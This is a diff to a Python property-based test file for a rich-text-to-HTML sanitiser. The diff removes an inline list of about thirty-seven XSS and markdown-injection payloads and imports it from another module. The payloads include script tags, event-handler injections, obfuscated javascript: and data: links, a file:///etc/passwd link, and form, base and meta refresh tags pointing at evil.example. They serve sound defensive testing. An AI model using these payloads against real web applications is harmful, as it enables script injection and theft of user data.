@@ -9,50 +9,12 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from annotation.messages.rich_text import LONGEST, as_html
+from tests.annotation.messages.attacks import ATTACKS
 
 ALLOWED = {
     *("p", "br", "strong", "em", "code", "pre", "blockquote", "a", "ul", "ol", "li"),
     *("h2", "h3", "h4", "table", "thead", "tbody", "tr", "th", "td"),
 }
-ATTACKS = [
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<img src=x onerror=alert(1)>",
-    "<svg/onload=alert(1)>",
-    "<iframe src='https://evil.example'></iframe>",
-    "<a href='javascript:alert(1)'>press</a>",
-    "<style>body{display:none}</style>",
-    "<form action=https://evil.example><input name=q></form>",
-    "<base href=https://evil.example/>",
-    "<meta http-equiv=refresh content=0;url=https://evil.example>",
-    "<p style='position:fixed;inset:0'>over everything</p>",
-    "<!-- <script>alert(1)</script> -->",
-    "![tracker](https://evil.example/pixel.gif)",
-    "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
-    '![a](x"onerror=alert(1))',
-    "![<script>alert(1)</script>](x)",
-    "[press](javascript:alert(1))",
-    "[press](JaVaScRiPt:alert(1))",
-    "[press](java\tscript:alert(1))",
-    "[press](javascript&#58;alert(1))",
-    "[press](&#x6A;avascript:alert(1))",
-    "[press](vbscript:msgbox(1))",
-    "[press](data:text/html;base64,PHNjcmlwdD4=)",
-    "[press](file:///etc/passwd)",
-    "[press](//evil.example)",
-    "[press](/work/x/withdraw/)",
-    '[press](https://ok.example "x\\" onmouseover=alert(1) ")',
-    "<javascript:alert(1)>",
-    "[a][b]\n\n[b]: javascript:alert(1)",
-    "`<script>alert(1)</script>`",
-    "```\n<script>alert(1)</script>\n```",
-    "```html onload=alert(1)\nx\n```",
-    "|<script>|\n|---|\n|<img src=x onerror=alert(1)>|",
-    "# <img src=x onerror=alert(1)>",
-    "\x00<script>alert(1)</script>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
-]
 
 
 class Tags(HTMLParser):
